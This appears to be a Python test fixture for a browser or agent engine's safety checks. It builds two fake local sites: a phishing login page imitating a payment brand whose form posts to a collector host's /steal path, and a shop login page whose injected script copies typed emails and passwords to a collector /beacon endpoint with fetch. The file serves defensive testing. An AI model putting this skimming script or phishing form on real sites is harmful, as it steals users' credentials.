"""Sites that leak credentials to a third host, for the engine's safety checks.

* ``evil.localhost`` — "PayPol": an ordinary-looking login form whose ``action`` is
  ``http://collector.localhost:PORT/steal``.
* ``evil-js.localhost`` — "Shoply": a login form that posts to its own host (and works), but a script
  also sends what was typed to ``http://collector.localhost:PORT/beacon`` on submit.

Both leaks land in ``received("collector.localhost")``.
"""

from __future__ import annotations

from tests.sites import accounts
from tests.sites.framework import (
    LOGGED_IN,
    Request,
    Response,
    Session,
    Site,
    document,
    esc,
    html_response,
    js_value,
    redirect,
)

COLLECTOR_HOST = "collector.localhost"

EVIL_CSS = """
body { margin: 0; font: 14px/1.5 Helvetica, Arial, sans-serif; background: #f5f7fa; color: #2c2e2f; }
.hdr { background: #fff; padding: 18px 40px; display: flex; gap: 24px; align-items: center; box-shadow: 0 1px 2px rgba(0,0,0,.08); }
.hdr .pp { font: italic bold 26px Verdana, sans-serif; color: #003087; text-decoration: none; } .hdr .pp span { color: #009cde; }
.hdr a { color: #2c2e2f; }
.wrap { width: 380px; margin: 60px auto; background: #fff; padding: 36px; border-radius: 6px; }
.wrap input { width: 100%; box-sizing: border-box; padding: 14px; margin-bottom: 12px; border: 1px solid #9da3a6; border-radius: 4px; font-size: 15px; }
.wrap button { width: 100%; padding: 13px; border: 0; border-radius: 25px; background: #0070ba; color: #fff; font-size: 16px; cursor: pointer; }
"""

SHOP_CSS = """
body { margin: 0; font: 15px/1.5 'Nunito', 'Helvetica Neue', sans-serif; background: #fff7ed; color: #431407; }
.top { display: flex; align-items: center; gap: 20px; padding: 14px 40px; background: #ea580c; color: #fff; }
.top .s { font-weight: 900; font-size: 22px; color: #fff; text-decoration: none; margin-right: 20px; } .top a { color: #ffedd5; }
.top .cart { margin-left: auto; display: flex; gap: 16px; }
.box { width: 360px; margin: 56px auto; background: #fff; padding: 30px; border-radius: 14px; border: 1px solid #fed7aa; }
.box label { display: block; margin: 10px 0 4px; font-weight: 700; }
.box input { width: 100%; box-sizing: border-box; padding: 10px; border: 1px solid #fdba74; border-radius: 8px; }
.box input[type=submit] { margin-top: 18px; background: #ea580c; color: #fff; border: 0; font-weight: 700; cursor: pointer; }
.bad { color: #dc2626; }
"""

# Runs on submit: copies the credentials to the collector before letting the form post normally.
# keepalive lets the request outlive the page; no-cors because the collector is another origin.
BEACON_SCRIPT = """
document.getElementById("shop-login").addEventListener("submit", function (event) {
  const form = this;
  if (form.dataset.sent) return;
  event.preventDefault();
  const body = JSON.stringify({ email: form.email.value, password: form.password.value, page: location.href });
  fetch(COLLECTOR + "/beacon", { method: "POST", mode: "no-cors", keepalive: true, body: body })
    .catch(() => {})
    .finally(() => { form.dataset.sent = "1"; form.submit(); });
});
"""


class EvilSite(Site):
    hosts = ("evil.localhost",)
    brand = "PayPol"

    def dispatch(self, req: Request) -> Response | None:
        match req.method, req.path:
            case "GET", "/" | "/login" | "/signin":
                return self.login_page()
        return None

    def login_page(self) -> Response:
        action = self.url("/steal", host=COLLECTOR_HOST)
        body = f"""
<div class="hdr"><a class="pp" href="/">Pay<span>Pol</span></a><a href="/pricing">Pricing</a><a href="/docs">Docs</a><a href="/blog">Blog</a></div>
<div class="wrap">
  <h2>Log in to your account</h2>
  <p>Your account has been limited. Log in to restore access.</p>
  <form method="post" action="{esc(action)}">
    <input type="text" name="username" placeholder="Email or mobile number" aria-label="Email or mobile number" autocomplete="username">
    <input type="password" name="password" placeholder="Password" aria-label="Password" autocomplete="current-password">
    <button type="submit">Log In</button>
  </form>
  <p><a href="/forgot">Having trouble logging in?</a></p>
</div>"""
        return html_response(document("Log in to your PayPol account", body, css=EVIL_CSS))


class EvilJsSite(Site):
    hosts = ("evil-js.localhost",)
    brand = "Shoply"
    session_cookie = "shoply"
    identifier_key = "email"

    def dispatch(self, req: Request) -> Response | None:
        match req.method, req.path:
            case "GET", "/":
                return self.render(
                    "Shoply",
                    "<h1>Deals of the day</h1><p>Up to 70% off garden furniture.</p>",
                    self.session(req),
                )
            case "GET", "/login":
                return redirect("/orders") if self.session(req) else self.login_page()
            case "POST", "/login":
                email = req.form.get("email", "")
                ok = accounts.check_password(email, req.form.get("password", ""))
                self.record_attempt(email, ok)
                if not ok:
                    return self.login_page(error="Wrong email or password.")
                response = redirect("/orders")
                self.sign_in(response)
                return response
            case "GET", "/orders":
                session = self.session(req)
                if not session:
                    return redirect("/login")
                return self.render(
                    "Your orders", "<h1>Your orders</h1><p>Garden chair ×2 — shipped.</p>", session
                )
            case "GET", "/logout":
                response = redirect("/")
                self.sign_out(req, response)
                return response
        return None

    def chrome(self, title: str, main: str, session: Session | None) -> str:
        cart = (
            f'<span class="cart"><span>Hello, {esc(accounts.DISPLAY_NAME)}</span><a href="/logout">Log out</a><span>🛒 0</span></span>'
            if session
            else '<span class="cart"><a href="/login">Log in</a><span>🛒 0</span></span>'
        )
        body = (
            '<div class="top"><a class="s" href="/">shoply</a><a href="/pricing">Deals</a><a href="/docs">Help</a>'
            f'<a href="/blog">Blog</a>{cart}</div><div class="box">{main}</div>'
        )
        return document(title, body, css=SHOP_CSS, body_attrs=LOGGED_IN if session else "")

    def login_page(self, *, error: str = "") -> Response:
        bad = f'<p class="bad" role="alert">{esc(error)}</p>' if error else ""
        main = f"""
<h2>Log in</h2>
{bad}
<form id="shop-login" method="post" action="/login">
  <label for="email">Email</label><input type="email" id="email" name="email" autocomplete="username">
  <label for="password">Password</label><input type="password" id="password" name="password" autocomplete="current-password">
  <input type="submit" value="Log in">
</form>
<p><a href="/forgot">Forgot password?</a> · <a href="/signup">Create account</a></p>
<script>const COLLECTOR = {js_value(self.url("", host=COLLECTOR_HOST))};{BEACON_SCRIPT}</script>"""
        return html_response(self.chrome("Log in · Shoply", main, None))
